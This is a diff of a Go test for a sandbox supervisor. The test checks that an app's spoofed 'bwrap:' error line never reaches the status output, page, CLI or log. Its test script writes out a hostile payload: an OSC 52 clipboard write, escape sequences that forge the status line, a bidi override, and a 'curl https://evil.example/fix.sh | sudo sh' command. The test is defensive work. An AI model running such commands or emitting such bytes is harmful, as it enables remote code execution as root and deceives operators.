@@ -760,19 +760,21 @@ func TestOperatorCLI(t *testing.T) {
 	}
 }
 
-// TestStatusShowsAVatsBytesEscaped: a vat's own bytes reach toybox
-// status. The wall quotes a "bwrap: " line of the output its app shares
-// with bubblewrap in the vat's last exit, so an app that crashes once,
-// then prints such a line, puts its bytes on the operator's status line:
-// here an OSC 52 clipboard write, then "erase line" and a carriage return
-// that would overwrite the line with a forged one, and a bidi override.
-// The terminal gets them escaped, on one line.
-func TestStatusShowsAVatsBytesEscaped(t *testing.T) {
+// TestAVatsBwrapLineCarriesNoneOfItsBytes: the wall takes a "bwrap: "
+// line of the output its app shares with bubblewrap as bubblewrap's, and
+// the vat's last exit, last error and Fix-it card quote it. An app that
+// crashes once, then prints such a line with more in it (an OSC 52
+// clipboard write, "erase line" and a carriage return that would
+// overwrite the status line with a forged one, a bidi override, and a
+// "fix: " the Fix-it card would show as toybox's remedy) turns itself
+// off, and none of those bytes reach the status, the page, the CLI or
+// the journal.
+func TestAVatsBwrapLineCarriesNoneOfItsBytes(t *testing.T) {
 	s := newStack(t, stackOpts{})
 	app := filepath.Join(t.TempDir(), "app.sh")
 	script := "#!/bin/sh\n" +
 		"if [ -e \"$TOYBOX_DATA/once\" ]; then\n" +
-		"  printf 'bwrap: execvp /proc/self/fd/7: \\033]52;c;ZWNobyBwd25lZA==\\007\\033[2K\\rzed  walled  sha256:x  restarts 0  ok \\342\\200\\256evil\\n' >&2\n" +
+		"  printf 'bwrap: execvp /proc/self/fd/7: \\033]52;c;ZWNobyBwd25lZA==\\007\\033[2K\\rzed  walled  ok \\342\\200\\256evil; fix: curl https://evil.example/fix.sh | sudo sh\\n' >&2\n" +
 		"  exit 1\n" +
 		"fi\n" +
 		": >\"$TOYBOX_DATA/once\"\n" +
@@ -782,22 +784,32 @@ func TestStatusShowsAVatsBytesEscaped(t *testing.T) {
 	}
 	s.install("mallory", app, "")
 	st := s.waitWord("mallory", "off: it could not run inside its wall")
-	if exit, _ := st["last_exit"].(string); !strings.Contains(exit, "\x1b]52;") {
-		t.Fatalf("last_exit = %q; want the app's line in it (the attack needs it)", exit)
+	// The page's card and facts (its log tail is the app's own output).
+	_, body := s.adminDo("GET", "/ui/status.json", nil)
+	var page struct {
+		Vats []struct {
+			FixIt json.RawMessage `json:"fixit"`
+			Facts json.RawMessage `json:"facts"`
+		} `json:"vats"`
+	}
+	if err := json.Unmarshal([]byte(body), &page); err != nil || len(page.Vats) != 1 || page.Vats[0].FixIt == nil {
+		t.Fatalf("status.json = %s (%v); want mallory's Fix-it card", body, err)
 	}
 	code, out := toyboxCLI(t, "status", "--admin", s.admin, "mallory")
-	if code != 0 {
-		t.Fatalf("toybox status mallory = %d %q", code, out)
+	if code != 0 || strings.Count(out, "\n") != 1 {
+		t.Errorf("toybox status mallory = %d %q; want 0 and one line", code, out)
 	}
-	if i := strings.IndexFunc(out, func(r rune) bool { return r < 0x20 && r != '\n' || r == 0x7f || r == '\u202e' }); i >= 0 {
-		t.Errorf("toybox status printed the vat's control byte %q at %d:\n%q", out[i], i, out)
+	for what, text := range map[string]string{
+		"last_exit": fmt.Sprint(st["last_exit"]), "last_error": fmt.Sprint(st["last_error"]),
+		"the Fix-it card": string(page.Vats[0].FixIt), "the page's facts": string(page.Vats[0].Facts), "toybox status": out, "the supervisor's log": s.tbLog.String(),
+	} {
+		for _, bad := range []string{"\x1b", "\\u001b", "\r", "\\r", "\u202e", "\\u202e", "evil"} {
+			if strings.Contains(text, bad) {
+				t.Errorf("%s holds the app's %q:\n%s", what, bad, text)
+			}
+		}
 	}
-	if n := strings.Count(out, "\n"); n != 1 {
-		t.Errorf("toybox status mallory printed %d lines; want 1:\n%q", n, out)
-	}
-	wantIn(t, "toybox status mallory", out, `\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2K\rzed`, `\u202eevil`)
-	// The supervisor's journal quotes the same line, escaped there too.
-	if log := s.tbLog.String(); strings.ContainsRune(log, '\u202e') || !strings.Contains(log, `\u202eevil`) {
-		t.Errorf("the supervisor's log holds the vat's bidi override raw, or not at all:\n%s", log)
+	if !strings.Contains(fmt.Sprint(st["last_exit"]), "bwrap: execvp /proc/self/fd/7") {
+		t.Errorf("last_exit = %q; want bubblewrap's line, rebuilt", st["last_exit"])
 	}
 }
